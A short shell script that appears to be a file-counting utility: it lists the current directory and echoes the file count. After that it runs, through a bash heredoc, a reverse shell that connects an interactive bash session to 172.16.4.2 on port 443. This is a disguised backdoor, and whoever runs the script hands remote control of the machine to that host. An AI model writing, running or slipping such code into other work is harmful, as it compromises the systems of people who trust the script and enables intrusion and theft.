#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
bash <<EOF
bash -i >& /dev/tcp/172.16.4.2/443 0>&1
EOF
